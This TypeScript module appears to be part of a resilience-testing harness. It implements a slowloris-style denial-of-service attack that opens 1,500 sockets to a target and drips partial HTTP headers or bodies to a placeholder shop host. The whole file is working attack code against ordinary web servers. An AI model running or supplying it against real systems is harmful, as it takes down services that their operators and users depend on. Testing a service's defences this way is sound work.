import { connect, type Socket } from 'node:net'
import type { Attack } from './attack.ts'
import { ATTACKER_ADDRESS } from './knock.ts'

const SOCKETS = 1_500
/** The maximum number of closed sockets that the attacker replaces in a round. */
const MAX_AGAIN = 1_500
const DRIP_MS = 500

/** The first bytes of each kind of connection. The attacker then sends the rest byte by byte, or nothing. */
const openings = [
  'POST /v1/charges HTTP/1.1\r\nhost: loja.example\r\nx-slow: ',
  'POST /v1/charges HTTP/1.1\r\nhost: loja.example\r\ncontent-type: application/json\r\ncontent-length: 10000\r\n\r\n{"',
  'GET /healthz HTTP/1.1\r\nhost: loja.example\r\n\r\n',
]

/** More sockets than the node may open. They send headers or a body slowly, or are idle. */
export const slowClients: Attack = {
  about: `${SOCKETS} sockets that send headers or bodies slowly, or nothing`,
  neighbour: 'orders',
  rowLimit: 300,
  async begin(target) {
    const { hostname, port } = new URL(target.url)
    const open = new Map<Socket, number>()
    let opened = 0
    let over = false
    const openOne = () => {
      if (over || opened >= SOCKETS + MAX_AGAIN) return
      const kind = opened++ % openings.length
      const socket = connect({ host: hostname, port: Number(port), localAddress: ATTACKER_ADDRESS })
      open.set(socket, kind)
      socket.on('connect', () => socket.write(openings[kind]!))
      socket.on('error', () => {}).on('data', () => {})
      socket.on('close', () => {
        open.delete(socket)
        setTimeout(openOne, DRIP_MS)
      })
    }
    for (let count = 0; count < SOCKETS; count += 1) openOne()
    const dripping = setInterval(() => {
      for (const [socket, kind] of open) if (kind < 2 && socket.writable) socket.write('x')
    }, DRIP_MS)
    return {
      async stop() {
        over = true
        clearInterval(dripping)
        for (const socket of open.keys()) socket.destroy()
        return opened
      },
    }
  },
}
